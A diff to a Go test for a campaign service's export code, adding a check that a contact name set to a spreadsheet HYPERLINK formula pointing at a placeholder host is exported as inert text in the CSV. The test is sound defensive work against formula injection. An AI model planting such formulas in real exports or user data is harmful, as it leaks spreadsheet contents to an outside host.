@@ -60,7 +60,13 @@ func TestCampaignDeliversOnceToEveryone(t *testing.T) {
 	eventually(t, "the full text", func() bool { return r.received(ps[0].user.ID, "[full1]") == 1 })
 	eventually(t, "one view", func() bool { return r.stats(t, c.ID).Viewed == 1 })
 
-	// Exports: a header and a row per recipient.
+	// Exports: a header and a row per recipient; a name chosen to be a
+	// spreadsheet formula stays text in the CSV.
+	const formula = `=HYPERLINK("http://x/?"&A1,"Click")`
+	if _, err := env.Owner.Exec(ctx, `UPDATE contacts SET first_name = $2 WHERE tenant_id = $1 AND tg_user_id = $3`,
+		r.tenant, formula, ps[0].user.ID); err != nil {
+		t.Fatal(err)
+	}
 	var buf bytes.Buffer
 	if err := r.svc.ExportCSV(ctx, r.tenant, c.ID, &buf); err != nil {
 		t.Fatal(err)
@@ -68,6 +74,18 @@ func TestCampaignDeliversOnceToEveryone(t *testing.T) {
 	recs, err := csv.NewReader(&buf).ReadAll()
 	if err != nil || len(recs) != 13 || recs[1][6] != "sent" {
 		t.Fatalf("csv: %v %d rows %v", err, len(recs), recs[:min(2, len(recs))])
+	}
+	defused := 0
+	for _, rec := range recs {
+		if rec[2] == formula {
+			t.Fatalf("the CSV carries a live formula: %v", rec)
+		}
+		if rec[2] == "'"+formula {
+			defused++
+		}
+	}
+	if defused != 1 {
+		t.Fatalf("%d defused formula names in the CSV, want 1", defused)
 	}
 	buf.Reset()
 	if err := r.svc.ExportXLSX(ctx, r.tenant, c.ID, &buf); err != nil {
